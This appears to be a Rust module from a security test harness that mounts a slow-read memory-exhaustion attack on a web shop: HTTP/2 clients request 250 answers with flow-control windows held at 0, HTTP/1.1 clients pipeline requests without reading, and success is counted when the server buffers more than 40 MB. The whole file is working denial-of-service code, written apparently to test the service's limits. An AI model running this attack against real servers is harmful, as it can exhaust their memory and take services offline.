//! Clients that request many answers and read none: over HTTP/2 their window is 0, over HTTP/1.1 they do not read from
//! the socket.
//!
//! After a while, the HTTP/2 clients open their windows. The attack succeeds if they then receive more than the shop
//! may keep.

use std::{
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
    time::Duration,
};

use tokio::time::sleep;

use super::Attacker;
use crate::wire::{Connection, Http2, frames};

/// The number of connections, half of them over HTTP/2.
pub const CONNECTIONS: u32 = 16;
/// How many answers a client requests on a connection.
const ANSWERS: u32 = 250;
/// A public answer of some 30 kB.
const PATH: &str = "/openapi.json";
const REPEAT_DELAY: Duration = Duration::from_secs(10);
/// How long an HTTP/2 client keeps its window at 0.
const TAKES_NOTHING_FOR: Duration = Duration::from_secs(4);
/// How many bytes the shop may have kept: 16 MiB, and 4 KiB of each answer in its buffers. The answers over HTTP/2 have
/// 58 MB in total.
const MAX_KEPT_BYTES: u64 = 40_000_000;

pub async fn hold(attacker: Arc<Attacker>) {
    let received = Arc::new(AtomicU64::default());
    attacker
        .repeat(CONNECTIONS, REPEAT_DELAY, move |attacker, number| {
            let received = received.clone();
            async move {
                match number % 2 {
                    0 => over_http2(&attacker, received).await,
                    _ => over_http1(&attacker).await,
                }
            }
        })
        .await;
}

async fn over_http2(attacker: &Arc<Attacker>, received: Arc<AtomicU64>) {
    let Ok(connection) = Http2::open(attacker, &attacker.entrances.order).await else { return };
    let fields = [(":method", "GET"), (":scheme", "http"), (":path", PATH), (":authority", &connection.authority)];
    let block = frames::block(&fields);
    let requests = (0..ANSWERS).flat_map(|number| frames::headers(number * 2 + 1, &block, true));
    let requests: Vec<u8> = frames::window_of_streams(0).into_iter().chain(requests).collect();
    attacker.has_sent(ANSWERS.into());
    let mut steps = [(Duration::ZERO, requests), (TAKES_NOTHING_FOR, frames::open_windows())].into_iter();
    let count = |size: u64| {
        let before = received.fetch_add(size, Relaxed);
        if (MAX_KEPT_BYTES.saturating_sub(size)..MAX_KEPT_BYTES).contains(&before) {
            attacker.has_succeeded();
        }
    };
    let write = || {
        let step = steps.next();
        async move {
            let (pause, bytes) = step?;
            sleep(pause).await;
            Some(bytes)
        }
    };
    connection.drive_counting(write, count).await;
}

async fn over_http1(attacker: &Arc<Attacker>) {
    let target = &attacker.entrances.order;
    let Ok(mut connection) = Connection::open(attacker, target).await else { return };
    let request = format!("GET {PATH} HTTP/1.1\r\nHost: {target}\r\n\r\n");
    attacker.has_sent(ANSWERS.into());
    let _ = connection.write(request.repeat(ANSWERS as usize).as_bytes()).await;
    sleep(TAKES_NOTHING_FOR + REPEAT_DELAY).await;
}
